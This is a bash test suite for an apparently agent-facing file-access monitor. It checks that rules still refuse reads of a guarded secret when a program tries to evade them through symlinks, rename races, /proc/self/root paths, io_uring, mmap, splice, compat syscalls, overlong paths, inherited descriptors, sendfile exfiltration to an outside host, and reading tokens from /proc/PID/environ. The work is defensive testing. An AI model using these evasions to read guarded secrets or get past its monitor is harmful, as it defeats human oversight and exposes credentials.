#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# Evasions, as tests/live/README.md lists them, of rules on files: ways to have the content
# of a file that a rule names, and the rule is to refuse it by each of them.

# shellcheck source=tests/live/evasions.sh
. tests/live/evasions.sh

test_symlink_read() {
	secret_make
	ln -s secret "$place/guarded/one"
	ln -s ../guarded/one "$place/guarded/two"
	ln -s "$place/guarded" "$place/folder"
	refused "$place/guarded/secret" 5 sh -c "for name in guarded/one guarded/two folder/two \
		guarded/../folder/../guarded/secret .//guarded//./secret; do cat $place/\$name; done"
}

test_rename_race_path() {
	secret_make
	# a folder above the names that the rule has, and, known as the file, one that it names
	mkdir -p "$place/a/b"
	mv "$place/guarded" "$place/a/b/guarded"
	refused_racing 'TargetFilename|endswith' /guarded/secret rename \
		"$place/a/b" "$place/a/c" guarded/secret
	refused_racing TargetFilename "$place/a/b/guarded/secret" rename \
		"$place/a/b/guarded" "$place/a/b/another" secret
}

test_proc_root_read() {
	secret_make
	refused "$place/guarded/secret" 4 sh -c "cd $place/guarded; cat /proc/self/root$place/guarded/secret; \
		cat /proc/\$\$/root$place/guarded/secret; cat /proc/\$\$/cwd/secret; \
		$SUBJECTS/evade devfd $place/guarded/secret"
}

test_handle_read() {
	secret_make
	refused_act handle
}

test_openat2_read() {
	secret_make
	refused_act openat2
}

test_compat_read() {
	secret_make
	refused_act int80
}

test_x32_read() {
	secret_make
	refused "$place/guarded/secret" 1 "$SUBJECTS/evade" x32 "$place/guarded/secret"
}

# Where no hook is in the opening, the ring is refused, or the file's mark refuses.
test_io_uring_read() {
	local way
	secret_make
	[[ $("$SUBJECTS/uring" open "$place/guarded/secret") == "done" ]] || skip "io_uring does not work here"
	for way in open async; do
		by_pattern
		watch -- "$SUBJECTS/uring" "$way" "$place/guarded/secret"
		same "$way" EPERM "$(<"$place/stdout")"
		if trampolines; then
			expect_alert reads '.fermata.verdict == "denied"'
		else
			expect_stderr "refused to the agent"
		fi
	done
	marks_work || return 0
	by_path
	watch --seccomp off -- "$SUBJECTS/uring" async "$place/guarded/secret"
	same "marked" EPERM "$(<"$place/stdout")"
	expect_alert reads '.fermata.verdict == "denied"'
}

test_mmap_read() {
	secret_make
	refused "$place/guarded/secret" 1 "$SUBJECTS/evade" mmap "$place/guarded/secret"
}

test_splice_read() {
	secret_make
	refused "$place/guarded/secret" 1 "$SUBJECTS/evade" splice "$place/guarded/secret"
}

test_copy_file_range() {
	secret_make
	refused "$place/guarded/secret" 1 "$SUBJECTS/evade" copy "$place/guarded/secret" "$place/copy"
}

# Nothing is sent by a call that rules on what is sent could see.
test_sendfile_exfil() {
	secret_make
	receiver_start
	"$SUBJECTS/evade" sendfile "$place/guarded/secret" "$outside" "$port" >"$place/stdout"
	expect_stdout "done"
	expect_received 1 11
	by_pattern
	watch -- "$SUBJECTS/evade" sendfile "$place/guarded/secret" "$outside" "$port"
	expect_received 2 11
	expect_refused 1 "$place/guarded/secret"
}

test_environ_read() {
	TOKEN="the secret" sleep 600 &
	started+=($!)
	rule reads file_open deny 'TargetFilename|startswith' /proc/ 'TargetFilename|endswith' /environ
	same "unwatched" "the secret" "$(grep -ao 'the secret' "/proc/$!/environ")"
	watch -- grep -ao 'the secret' "/proc/$!/environ"
	expect_refused 1 "/proc/$!/environ"
}

# Longer than what is kept of a path: the end that rules look at is cut off, or the beginning.
test_long_path() {
	mkdir "$place/guarded"
	deep 250 20
}

test_deep_path() {
	mkdir "$place/guarded"
	deep 1 600
}

# deep LENGTH COUNT: of names, and of folders.
deep() {
	refused '' 1 "$SUBJECTS/evade" deep "$place/guarded" "$1" "$2"
	: >"$rules"
	alerts_forget
	rule reads file_open deny 'TargetFilename|startswith' "$place/guarded/"
	watch -- "$SUBJECTS/evade" deep "$place/guarded" "$1" "$2"
	expect_refused 1 ''
}

# What the command has from before it is watched counts as opened by it.
test_inherited_fd() {
	secret_make
	same "unwatched" 1 "$(sh -c 'cat <&7' 7<"$place/guarded/secret" | secrets_in /dev/stdin)"
	by_pattern
	watch -- sh -c 'cat <&7' 7<"$place/guarded/secret"
	expect_refused 1 "$place/guarded/secret"
	# and as a step
	rm -f "$rules"
	alerts_forget
	receiver_start
	chain_rules
	watch -- sh -c "cat <&7; exec $SUBJECTS/send connect $outside $port" 7<"$place/secret"
	expect_status 137
	expect_alert secret_then_outside '.fermata.response.condemned'
	expect_received 0 0
	# what may be read is, from where its caller stood
	rm -f "$rules"
	alerts_forget
	rule never file_open deny TargetFilename "$place/never"
	printf 'one\ntwo\n' >"$place/lines"
	watch -- sh -c 'cat <&7' 7<"$place/lines"
	same "what was read" "one
two" "$(<"$place/stdout")"
	{
		read -r _ <&7
		watch -- sh -c 'cat <&7'
	} 7<"$place/lines"
	same "what was left to read" "two" "$(<"$place/stdout")"
}
